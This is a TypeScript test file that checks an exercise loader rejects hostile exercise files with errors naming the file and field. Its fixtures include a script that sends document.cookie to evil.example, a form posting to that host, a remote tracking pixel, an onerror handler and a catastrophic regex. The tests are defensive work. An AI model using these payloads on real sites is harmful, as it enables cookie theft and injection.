/**
 * Hostile exercise files beside the built-in course: each gets a clear message naming its file
 * and field, and every built-in exercise still loads unchanged. (With runs through the CLI,
 * including a catastrophic regex that must not hang: cli/commands/validate.test.ts; the page's
 * sanitiser: src/features/exercise/markdown.test.ts.)
 */
import { describe, expect, it } from "vitest";
import { formatExerciseError, loadPack, type ExerciseError } from "./index";
import { DEFAULT_PACK_DIR, readPackFiles } from "./node";

const builtIn = readPackFiles(DEFAULT_PACK_DIR);
const original = loadPack(builtIn);
const [firstFile, firstText] = Object.entries(builtIn).sort()[0] ?? ["", "{}"];
const first = JSON.parse(firstText) as Record<string, unknown>;
const variant = (changes: Record<string, unknown>) => JSON.stringify({ ...first, ...changes });

/** file -> [text, the errors it must get]. */
const HOSTILE: Record<string, [string, Partial<ExerciseError>[]]> = {
  "hostile/malformed.json": [
    '{ "version": 1, "id": "x" "title": "y" }',
    [{ field: "", message: expect.stringMatching(/^invalid JSON at line 1, column 27: /) }],
  ],
  "hostile/empty.json": ["", [{ field: "", message: expect.stringMatching(/^is empty/) }]],
  "hostile/array.json": [
    "[]",
    [{ field: "", message: "must be a JSON object holding one exercise, not an array" }],
  ],
  "hostile/null.json": [
    "null",
    [{ field: "", message: "must be a JSON object holding one exercise, not null" }],
  ],
  "hostile/string.json": [
    '"exercise"',
    [{ field: "", message: "must be a JSON object holding one exercise, not a string" }],
  ],
  "hostile/wrong-types.json": [
    variant({ id: "wrong-types", title: 5, checks: "all of them" }),
    [
      { field: "title", message: "must be text or translations" },
      { field: "checks", message: "must be array" },
    ],
  ],
  // Sorts before the original and claims its id: the original keeps it.
  "aaa-impostor.json": [
    variant({ title: "Impostor" }),
    [
      {
        field: "id",
        message: expect.stringContaining(`already the id of the exercise in ${firstFile}`),
      },
    ],
  ],
  "hostile/script.json": [
    variant({
      id: "script-in-description",
      description: 'Hello <script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    }),
    [{ field: "description", message: expect.stringMatching(/^contains <script>/) }],
  ],
  "hostile/style.json": [
    variant({
      id: "style-in-hint",
      hints: ["fine", { en: "<style>body{background:red}</style>" }],
    }),
    [{ field: "hints[1].en", message: expect.stringMatching(/^contains <style>/) }],
  ],
  "hostile/form.json": [
    variant({
      id: "form-in-description",
      description: '<form action="https://evil.example"><input name="p"></form>',
    }),
    [{ field: "description", message: expect.stringMatching(/^contains <form>/) }],
  ],
  "hostile/remote-image.json": [
    variant({ id: "remote-image", description: "Look: ![pixel](https://evil.example/p.png)" }),
    [{ field: "description", message: expect.stringMatching(/image from another site/) }],
  ],
  "hostile/handler.json": [
    variant({ id: "handler", description: '<img src="x.png" onerror="alert(1)">' }),
    [{ field: "description", message: expect.stringMatching(/event handler/) }],
  ],
  "hostile/backreference.json": [
    variant({
      id: "backreference",
      checks: [{ kind: "output", match: "regex", expected: "^(a+)\\1$" }],
      targetedHints: undefined,
    }),
    [{ field: "checks[0].expected", message: expect.stringMatching(/backreference/) }],
  ],
};

describe("hostile exercise files beside the built-in course", () => {
  const files = {
    ...builtIn,
    ...Object.fromEntries(Object.entries(HOSTILE).map(([f, [t]]) => [f, t])),
  };
  const pack = loadPack(files);

  it("the built-in course still loads, every exercise unchanged", () => {
    expect(original.errors.map(formatExerciseError)).toEqual([]);
    expect(pack.exercises).toEqual(original.exercises);
  });

  it.each(Object.entries(HOSTILE))(
    "%s gets a message naming its file and field",
    (file, [, want]) => {
      const got = pack.errors.filter((e) => e.file === file);
      expect(got).toHaveLength(want.length);
      expect(got).toEqual(expect.arrayContaining(want.map((w) => ({ file, ...w }))));
    },
  );

  it("a catastrophic regex is accepted: it is matched in linear time, so it cannot hang Check", () => {
    const catastrophic = variant({
      id: "catastrophic",
      checks: [{ kind: "output", match: "regex", expected: "^(a+)+$" }],
      targetedHints: undefined,
    });
    expect(loadPack({ "c.json": catastrophic }).errors).toEqual([]);
  });

  it("code in backticks may show any tag", () => {
    const shown = variant({
      id: "shown",
      description:
        "Never write `<script>` here; this block is code:\n\n```html\n<style>x</style>\n```\n",
    });
    expect(loadPack({ "s.json": shown }).errors).toEqual([]);
  });
});
